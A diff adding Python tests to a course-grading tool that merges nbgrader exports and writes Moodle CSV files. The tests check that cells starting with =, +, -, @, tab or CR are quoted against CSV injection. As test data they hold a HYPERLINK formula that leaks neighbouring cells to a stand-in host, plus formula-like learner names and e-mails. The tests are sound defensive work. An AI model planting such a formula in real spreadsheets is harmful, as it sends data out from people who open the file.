@@ -153,3 +153,55 @@ def test_written_answers_of_the_folder_grader_are_named_as_left_out(tmp_path):
     assert done.returncode == 0, done.stderr
     assert "01-circuits's written answers (2 points) are not in these scores" in done.stderr and "by hand" in done.stderr
     assert read(tmp_path / "moodle.csv")[0][4:] == ["01-circuits (10 points)", "Total (10 points)"]
+
+
+# ---------------------------------------------------------------------------------------------
+# No cell of a CSV the course writes is a formula (OWASP: = + - @ tab CR first get a quote)
+
+FORMULA = '=HYPERLINK("http://x.example/?leak="&A3&B3,"see")'
+
+
+def is_formula(cell: str) -> bool:
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not classgrades.reports._NUMBER.match(cell)
+
+
+def test_merge_quotes_formulas_reads_back_what_it_wrote_and_matches_learners(tmp_path):
+    """A learner named =1+1 (a submission file =1+1.ipynb) and a written answer that is a formula: the
+    merged file quotes them; merging it again (with the machines' files, one of them written before the
+    rule) quotes nothing twice and finds the same learners."""
+    header = [*HEADER, "l01_why_dx (2 points, written: grade by hand)"]
+    evil = ["=1+1", "01-circuits", "4", "10", "4", "0", "l01_b_test: -inf instead of 2", "@review", FORMULA]
+    quoted = ["'=1+1", "01-circuits", "4", "10", "4", "0", "l01_b_test: -inf instead of 2", "'@review", "'" + FORMULA]
+    m1 = write(tmp_path / "m1.csv", [header, [*MACHINE1[0], "-1.5"], quoted])
+    m2 = write(tmp_path / "m2.csv", [header, evil])   # the same learner, written before the rule: not quoted
+    done = run("merge", m1, m2, "--out", tmp_path / "grades.csv")
+    assert done.returncode == 0, done.stderr
+    merged = read(tmp_path / "grades.csv")
+    assert merged == [header, quoted, [*MACHINE1[0], "-1.5"]], "one row per learner, formulas quoted, numbers kept"
+    assert not [c for r in merged for c in r if is_formula(c)]
+    assert run("merge", tmp_path / "grades.csv", m1, "--out", tmp_path / "again.csv").returncode == 0
+    assert read(tmp_path / "again.csv") == merged, "merging a merged file changes nothing: no cell is quoted twice"
+
+
+def test_lms_file_has_no_formula_whatever_the_roster_or_nbgraders_export_hold(tmp_path):
+    """The roster's names and e-mails and nbgrader's export are written by others; nbgrader's export
+    does not quote formulas (checked here), and the LMS file quotes every one; scores stay numbers; a
+    learner is matched across the files whether their id came quoted or not."""
+    from nbgrader.api import Gradebook
+    from nbgrader.plugins.export import CsvExportPlugin
+    exported = tmp_path / "nbgrader-grades.csv"
+    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db") as gb:
+        gb.add_assignment("02-local-gradients")
+        gb.add_student("=1+1", first_name="@eve", last_name="+cmd", email="-eve@example.org")
+        plugin = CsvExportPlugin()
+        plugin.to = str(exported)
+        plugin.export(gb)
+    assert read(exported)[1][3:7] == ["=1+1", "+cmd", "@eve", "-eve@example.org"], \
+        "nbgrader's export writes formulas as they are (so lms must quote them)"
+    folder = write(tmp_path / "m1.csv", [HEADER, ["'=1+1", "01-circuits", "4", "10", "4", "0", "", ""]])
+    roster = write(tmp_path / "roster.csv", [ROSTER[0], ["=1+1", "@eve", "+cmd", "-eve@example.org"]])
+    done = run("lms", folder, exported, "--roster", roster, "--out", tmp_path / "moodle.csv")
+    assert done.returncode == 0, done.stderr
+    out = read(tmp_path / "moodle.csv")
+    assert out[1] == ["'=1+1", "'@eve", "'+cmd", "'-eve@example.org", "4", "0", "4"]
+    assert not [c for r in out for c in r if is_formula(c)]
